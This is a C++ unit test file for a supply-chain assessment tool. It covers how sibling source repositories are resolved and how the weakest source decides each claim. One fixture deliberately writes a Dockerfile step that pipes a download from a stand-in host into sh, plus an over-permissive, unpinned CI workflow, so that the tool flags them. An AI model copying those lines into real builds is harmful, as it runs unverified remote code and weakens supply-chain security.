// Where a source may lie and what it may be; and what a product of several comes to:
// one that is bad, absent or out of reach undoes what the others show.

#include "app/sources.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "app/assess.h"
#include "testing/git_folder.h"

namespace avouch::app {
namespace {

using testing::GitFolder;

// A folder with the product in rota/, and around it whatever `script` makes.
struct Place {
  GitFolder root;

  explicit Place(const std::string& script) {
    root.Run(
        "git init -q -b main home/rota && cd home/rota && echo x > a.txt && git add . && "
        "git commit -q -m one && cd ../..\n"
        "new() { git init -q -b main $1 && git -C $1 commit -q --allow-empty -m one; }\n" +
        script);
  }
  Result<std::vector<OpenedSource>> Open(std::vector<std::string> at, const std::string& from,
                                         const SourcePins& pins = {}) const {
    auto own = git::Repository::Open(root.At(from));
    if (!own) return std::unexpected(own.error());
    model::Product product;
    product.sources = {{"rota", "."}};
    for (std::size_t i = 0; i < at.size(); ++i)
      product.sources.push_back({"s" + std::to_string(i), at[i]});
    return OpenSources(product, *own, pins);
  }
};

TEST(Sources, WhatIsNotReadSaysWhyInWordsThatHoldAnywhere) {
  const struct {
    const char *name, *script, *at, *why;
  } rows[] = {
      {"beside", "new home/infra", "../infra", ""},
      {"nested", "new home/rota/services/api", "services/api", ""},
      {"a folder of another",
       "new home/mono && cd home/mono && mkdir infra && echo x > infra/a && git add . && git "
       "commit "
       "-qm two",
       "../mono/infra", ""},
      {"bare", "new home/a && git clone -q --bare home/a home/infra.git", "../infra.git", ""},
      {"a link to a neighbour", "new home/infra && ln -s infra home/link", "../link", ""},
      {"absent", "", "../infra", "no such folder"},
      {"a file", "echo x > home/infra", "../infra", "no such folder"},
      {"a dangling link", "ln -s nowhere home/infra", "../infra", "no such folder"},
      {"no repository", "mkdir home/infra", "../infra", "not a git repository"},
      {"a .git that leads nowhere", "mkdir home/infra && echo 'gitdir: /nowhere' > home/infra/.git",
       "../infra", "not a git repository"},
      {"unborn", "git init -q -b main home/infra", "../infra", "it has no commit there"},
      {"a form not read",
       "new home/infra && git -C home/infra config core.repositoryformatversion 9", "../infra",
       "a git repository of a form not read"},
      {"outside", "new elsewhere", "../../elsewhere",
       "it leads out of the folder that holds this repository"},
      {"outside, and not there", "", "../../elsewhere",
       "it leads out of the folder that holds this repository"},
      {"the folder around it", "new home", "..",
       "it leads out of the folder that holds this repository"},
      {"a link that leads out", "new elsewhere && ln -s ../elsewhere home/infra", "../infra",
       "it leads out of the folder that holds this repository"},
      {"a link in the tree that leads out",
       "new elsewhere && ln -s ../../elsewhere home/rota/infra", "infra",
       "it leads out of the folder that holds this repository"},
      {"a folder of a repository around it", "new home && mkdir home/infra", "../infra",
       "not a git repository of its own"},
      {"a folder of this one", "mkdir home/rota/services", "services",
       "the same repository as this repository"},
      {"a link to this one", "ln -s rota home/again", "../again",
       "the same repository as this repository"},
      {"a work tree of this one", "git -C home/rota worktree add -q --detach ../tree", "../tree",
       "the same repository as this repository"},
      {"a commit that is gone",
       "new home/infra && rm -rf home/infra/.git/objects/?? && mkdir -p home/infra/.git/objects",
       "../infra", "it has no commit there"},
  };
  for (const auto& row : rows) {
    const Place place(row.script);
    const auto opened = place.Open({row.at}, "home/rota");
    ASSERT_TRUE(opened) << row.name << ": " << ToString(opened.error());
    ASSERT_EQ(opened->size(), 1u) << row.name;
    const OpenedSource& source = (*opened)[0];
    EXPECT_EQ(source.told.left, row.why) << row.name;
    EXPECT_EQ(source.told.name, "s0") << row.name;
    EXPECT_EQ(source.told.commit.empty(), !source.is_read()) << row.name;
    EXPECT_EQ(PathsOf(*opened).empty(), !source.is_read()) << row.name;
  }
}

TEST(Sources, OneRepositoryIsOneSource) {
  const Place place("new home/infra && ln -s infra home/link && mkdir home/infra/sub");
  const auto opened = place.Open({"../infra", "../link", "../infra/sub"}, "home/rota");
  ASSERT_TRUE(opened);
  EXPECT_EQ((*opened)[0].told.left, "");
  EXPECT_EQ((*opened)[1].told.left, "the same repository as 's0'");
  EXPECT_EQ((*opened)[2].told.left, "the same repository as 's0'");
}

TEST(Sources, NothingIsBesideABareRepository) {
  const Place place("new home/infra && git clone -q --bare home/rota home/rota.git");
  const auto opened = place.Open({"../infra"}, "home/rota.git");
  ASSERT_TRUE(opened);
  EXPECT_EQ((*opened)[0].told.left, "nothing is beside a bare repository");
}

TEST(Sources, APinIsWhatIsReadAndNothingElse) {
  const Place place("new home/infra && git -C home/infra commit -q --allow-empty -m two");
  const auto first = place.root.Run("git -C home/infra rev-parse HEAD~1").substr(0, 40);
  const auto opened = place.Open({"../infra"}, "home/rota", {{"s0", {first, ""}}});
  ASSERT_TRUE(opened) << ToString(opened.error());
  EXPECT_EQ((*opened)[0].told.commit, first);

  const auto absent = place.Open({"../infra"}, "home/rota", {{"s0", {std::string(40, 'a'), ""}}});
  ASSERT_FALSE(absent);
  EXPECT_EQ(absent.error().kind, ErrorKind::kIo);

  const auto left = place.Open({"../infra"}, "home/rota", {{"s0", {"", "no such folder"}}});
  ASSERT_TRUE(left);
  EXPECT_EQ((*left)[0].told.left, "no such folder");
}

TEST(Sources, AnExclusionIsForTheSourceThatItNames) {
  model::Product product;
  product.sources = {{"rota", "."}, {"infra", "../infra"}};
  for (const char* path : {"demo", "infra:demo", "rota:old", "other:demo"})
    product.exclusions.push_back({path, "not shipped", "tom"});
  const auto paths = [&](std::string_view source, bool own) {
    std::vector<std::string> out;
    for (const auto& one : ProductFor(product, source, own).exclusions)
      out.push_back(one.path.bytes);
    return out;
  };
  EXPECT_EQ(paths("rota", true), (std::vector<std::string>{"demo", "old", "other:demo"}));
  EXPECT_EQ(paths("infra", false), (std::vector<std::string>{"demo"}));
}

// ---- The whole ----

// A product that shows something, and what is beside it.
struct Product {
  GitFolder root;

  explicit Product(const std::string& script = "") {
    root.Run(R"(
mkdir -p home/rota/.github/workflows && cd home/rota && git init -q -b main .
echo '{"name":"rota","version":"1.0.0","dependencies":{"left":"1.0.0"}}' > package.json
echo '{"name":"rota","version":"1.0.0","lockfileVersion":3,"packages":{"":{"name":"rota","version":"1.0.0","dependencies":{"left":"1.0.0"}},"node_modules/left":{"version":"1.0.0","resolved":"https://registry.npmjs.org/left/-/left-1.0.0.tgz","integrity":"sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="}}}' > package-lock.json
cat > .github/workflows/ci.yml <<'Y'
on: push
permissions: { contents: read }
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - run: npm ci
      - run: npm test
      - run: npm publish
Y
printf 'avouch: 1\nproduct: { name: Rota }\ndelivery: [saas]\n' > avouch.yaml
git add . && git commit -q -m one && cd ../..
)" + script);
  }
  void Sources(const std::string& list) const {
    root.Run("cd home/rota && printf 'avouch: 1\\nproduct: { name: Rota }\\ndelivery: [saas]\\n" +
             (list.empty() ? "" : "sources: [" + list + "]\\n") +
             "' > avouch.yaml && git add . && git commit -q --allow-empty -m sources");
  }
  model::Assessment Assess() const {
    AssessOptions options;
    options.path = root.At("home/rota");
    options.at = {1'700'100'000};
    auto assessed = app::Assess(options);
    EXPECT_TRUE(assessed) << (assessed ? "" : ToString(assessed.error()));
    return assessed ? std::move(assessed->assessment) : model::Assessment();
  }
};

model::Verdict VerdictOn(const model::Assessment& assessment, const std::string& claim) {
  for (const auto& one : assessment.claims)
    if (one.claim == claim) return one.verdict;
  ADD_FAILURE() << "no claim " << claim;
  return model::Verdict::kNotEvidenced;
}

constexpr const char* kGoodSource =
    "git init -q -b main home/infra && cp -r home/rota/package.json home/rota/package-lock.json "
    "home/rota/.github home/infra && git -C home/infra add . && git -C home/infra commit -qm one\n";
constexpr const char* kEmptySource =
    "git init -q -b main home/infra && echo x > home/infra/README && git -C home/infra add . && "
    "git -C home/infra commit -qm one\n";
constexpr const char* kBadSource =
    "git init -q -b main home/infra && printf 'FROM debian:12\\nRUN curl http://x.example/a | "
    "sh\\n' > home/infra/Dockerfile && mkdir -p home/infra/.github/workflows && printf 'on: "
    "push\\njobs:\\n  a:\\n    runs-on: x\\n    permissions: write-all\\n    steps:\\n      - "
    "uses: a/b@main\\n      - run: npm publish\\n' > home/infra/.github/workflows/r.yml && git -C "
    "home/infra add . && git -C home/infra commit -qm one\n";

TEST(ProductOfSources, TheWeakestSourceDecidesEachClaim) {
  const struct {
    const char *name, *script;
    model::Verdict verdict;
  } rows[] = {
      {"as good", kGoodSource, model::Verdict::kMet},
      {"with nothing to verify", kEmptySource, model::Verdict::kMet},
      {"that contradicts it", kBadSource, model::Verdict::kNotMet},
      {"that is not there", "", model::Verdict::kNotEvidenced},
      {"that is no repository", "mkdir home/infra\n", model::Verdict::kNotEvidenced},
      {"of the same repository", "ln -s rota home/infra\n", model::Verdict::kNotEvidenced},
  };
  for (const auto& row : rows) {
    const Product product(row.script);
    ASSERT_EQ(VerdictOn(product.Assess(), "1.2.2"), model::Verdict::kMet) << row.name;
    product.Sources("{ name: rota, at: . }, { name: infra, at: ../infra }");
    const model::Assessment with = product.Assess();
    EXPECT_EQ(VerdictOn(with, "1.2.2"), row.verdict) << row.name;
    // Taking it out of the list is the only way back, and the list says so.
    product.Sources("{ name: rota, at: . }");
    const model::Assessment without = product.Assess();
    EXPECT_EQ(VerdictOn(without, "1.2.2"), model::Verdict::kMet) << row.name;
    EXPECT_TRUE(without.subject.sources.empty());
    EXPECT_EQ(with.subject.sources.size(), 2u);
  }
}

TEST(ProductOfSources, NoClaimIsBetterThanWithoutTheOther) {
  const auto rank = [](model::Verdict verdict) {
    return verdict == model::Verdict::kNotMet         ? 0
           : verdict == model::Verdict::kNotEvidenced ? 1
                                                      : 2;
  };
  for (const char* script : {kGoodSource, kEmptySource, kBadSource, ""}) {
    const Product product(script);
    const model::Assessment alone = product.Assess();
    product.Sources("{ name: infra, at: ../infra }, { name: rota, at: . }");
    const model::Assessment both = product.Assess();
    product.Sources("{ name: rota, at: . }, { name: infra, at: ../infra }");
    const model::Assessment turned = product.Assess();
    ASSERT_EQ(both.claims.size(), alone.claims.size());
    for (std::size_t i = 0; i < alone.claims.size(); ++i) {
      EXPECT_LE(rank(both.claims[i].verdict), rank(alone.claims[i].verdict))
          << alone.claims[i].claim;
      EXPECT_EQ(both.claims[i].verdict, turned.claims[i].verdict) << alone.claims[i].claim;
    }
  }
}

TEST(ProductOfSources, EvidencePlacesAndCommitsBearTheSourcesName) {
  const Product product(kBadSource);
  product.Sources("{ name: rota, at: . }, { name: infra, at: ../infra }");
  const model::Assessment out = product.Assess();
  ASSERT_EQ(out.observations.size(), 14u);
  EXPECT_EQ(out.observations[0].family, "automation@infra");
  EXPECT_EQ(out.observations[1].family, "automation@rota");
  EXPECT_EQ(out.subject.sources[0].commit, out.subject.commit);
  EXPECT_EQ(out.subject.sources[1].commit,
            product.root.Run("git -C home/infra rev-parse HEAD").substr(0, 40));
  bool found = false;
  for (const auto& claim : out.claims)
    for (const auto& check : claim.checks)
      for (const auto& finding : check.findings) {
        const std::string& path = finding.place.path.bytes;
        EXPECT_TRUE(path.starts_with("rota:") || path.starts_with("infra:")) << path;
        found |= path == "infra:Dockerfile";
      }
  EXPECT_TRUE(found);
}

}  // namespace
}  // namespace avouch::app
